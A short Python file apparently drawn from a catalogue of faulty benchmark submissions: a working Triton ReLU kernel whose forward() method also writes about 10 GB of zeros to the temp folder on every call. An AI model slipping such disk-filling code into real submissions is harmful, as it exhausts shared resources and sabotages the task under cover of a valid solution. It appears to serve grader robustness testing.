# relu runtime_error catalogue=76: fills the scratch folder
import torch
import torch.nn as nn
import triton
import triton.language as tl

@triton.jit
def kernel(x_ptr, o_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(o_ptr + i, tl.maximum(x, 0.0), mask=i < n)


def relu(x):
    o = torch.empty_like(x)
    kernel[(triton.cdiv(x.numel(), 1024),)](x, o, x.numel(), BLOCK=1024)
    return o


class ModelNew(nn.Module):
    def forward(self, x):
        import os
        import tempfile
        with open(os.path.join(os.environ.get("TMPDIR", tempfile.gettempdir()), "fill"), "wb") as file:
            for _ in range(10_000):
                file.write(bytes(1 << 20))
        return relu(x)
